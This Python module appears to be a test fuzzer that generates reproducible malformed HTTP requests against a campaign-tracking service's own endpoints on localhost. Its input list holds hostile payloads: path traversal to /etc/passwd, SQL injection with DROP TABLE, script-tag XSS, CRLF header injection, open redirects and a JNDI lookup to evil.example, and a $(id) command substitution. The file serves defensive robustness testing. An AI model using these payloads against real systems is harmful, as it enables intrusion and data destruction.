"""Hostile requests to public addresses, the same ones for the same seed, and the bytes of them."""

import random
from collections.abc import Iterator, Mapping
from typing import NamedTuple

# What breaks parsers, quotes, redirects and pages.
NASTY = (
    "", " ", "0", "-1", "null", "99999999999999999999", "A" * 3_000, "../../etc/passwd", "%2e%2e%2f", "%00", "%FF%FE",
    "%0d%0aSet-Cookie:%20a=b", "' OR 1=1--", "'; DROP TABLE campaigns_hit;--", "\"><script>alert(1)</script>",
    "//evil.example", "https://evil.example", "\\\\evil.example", "/\\evil.example", "javascript:alert(1)", "{{7*7}}",
    "{% load x %}", "${jndi:ldap://evil.example}", "$(id)", "가나다", "\u202e", "\ud7ff", "\x00", "\x1b[31m", "=1+1",
    "é" * 40, "%u0000", "1e309", "NaN", "[]", "{}", "a,b,c", ";", "#", "?", "&", "&next=https://evil.example",
    "../" * 40,
)  # fmt: skip
# Addresses; {token} stands for a token, good or not, and {nasty} for something of the above.
PATHS = (
    "/o/{token}.gif", "/c/{token}", "/{token}", "/h/{token}/{nasty}", "/h/{token}/open", "/h/{token}/click",
    "/u/{token}", "/p/{token}", "/r/{nasty}", "/r/{token}", "/t.js", "/t/{token}/events", "/t/{nasty}/messages",
    "/webhooks/1/{token}/", "/webhooks/{nasty}/{token}/", "/webhooks/cafe24/{token}/", "/api/v1/events/",
    "/api/v1/in-app/?customer_id={nasty}", "/api/v1/message-reports/", "/api/v1/customers/{nasty}/",
    "/healthz", "/{nasty}", "/o/{nasty}.gif", "/c/{nasty}",
)  # fmt: skip
METHODS = ("GET",) * 6 + ("HEAD", "POST", "POST", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "BREW")
TYPES = (
    "application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "multipart/form-data",
    "text/plain; charset=utf-7", "application/json; charset=nonsense", "", "a/b;;;", "application/octet-stream",
)  # fmt: skip
BODIES = (
    b"", b"{", b"null", b"[]", b"[" * 5_000, b'{"events":' * 500, b"\x00" * 200, b"\xff\xfe\xfd",
    b"say=ad_receive:email:no",
    b"List-Unsubscribe=One-Click", b'{"delivery_id":1,"kind":[]}', b'{"identity":{"id":"1\' OR 1=1"},"events":[{}]}',
    b'--x\r\nContent-Disposition: form-data; name="a"; filename="../../x"\r\n\r\n1\r\n--x', b"a=" + b"%" * 2_000,
    b'[{"delivery_id":"' + b"A" * 32 + b'","kind":"open","occurred_at":"9999-99-99"}]',
    b'{"message_id":1,"hits":1e999}',
)  # fmt: skip
HEADERS = (
    "User-Agent", "Accept", "Accept-Language", "Cookie", "Referer", "Origin", "Authorization", "Range",
    "X-Forwarded-Proto", "X-HTTP-Method-Override", "If-None-Match", "Accept-Encoding", "X-Requested-With",
)  # fmt: skip


class Request(NamedTuple):
    """A request as it goes over the wire."""

    method: str
    path: str
    headers: Mapping[str, str]
    body: bytes

    def wire(self) -> bytes:
        """Return its bytes: what is no ASCII as UTF-8, and no line that another header could begin on."""
        lines = [f"{self.method} {self.path} HTTP/1.1", *(f"{name}: {value}" for name, value in self.headers.items())]
        head = "\r\n".join(line.replace("\r", "").replace("\n", "") for line in lines)
        return head.encode("utf-8", "replace") + b"\r\n\r\n" + self.body


def requests(seed: int, count: int, tokens: list[str]) -> Iterator[Request]:
    """Yield so many; half of the tokens in them are good ones, the others those with something done to them."""
    chance = random.Random(seed)  # noqa: S311 (the same each time)
    for number in range(count):
        yield _request(chance, number, tokens)


def _request(chance: random.Random, number: int, tokens: list[str]) -> Request:
    path = chance.choice(PATHS).replace("{token}", _token(chance, tokens)).replace("{nasty}", _in_path(chance))
    if chance.random() < 0.2:
        path += "?" + chance.choice(("next", "url", "token", "")) + "=" + _in_path(chance)
    body = chance.choice(BODIES) if chance.random() < 0.5 else b""
    headers = {"Host": "localhost" if chance.random() < 0.95 else chance.choice(("evil.example", "", "a b", "[::1"))}
    headers |= {name: chance.choice(NASTY) for name in chance.sample(HEADERS, chance.randint(0, 4))}
    headers["X-Forwarded-For"] = f"{_forwarded(chance)}203.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}"
    headers |= {"Content-Type": chance.choice(TYPES), "Content-Length": str(len(body)), "Connection": "close"}
    return Request(chance.choice(METHODS), path, headers, body)


def _token(chance: random.Random, tokens: list[str]) -> str:
    good = chance.choice(tokens)
    if chance.random() < 0.5:
        return good
    place = chance.randrange(len(good))
    return chance.choice(
        (good[:place], good + good, good[:place] + chance.choice("Az09_-") + good[place + 1 :], good.swapcase(),
         good[::-1], good + _in_path(chance), "A" * len(good))
    )  # fmt: skip


def _in_path(chance: random.Random) -> str:
    """Return something nasty that does not end the first line by itself: mostly as it is, or escaped."""
    return chance.choice(NASTY).replace(" ", "%20")


def _forwarded(chance: random.Random) -> str:
    return f"{chance.choice(NASTY)}, " if chance.random() < 0.3 else ""
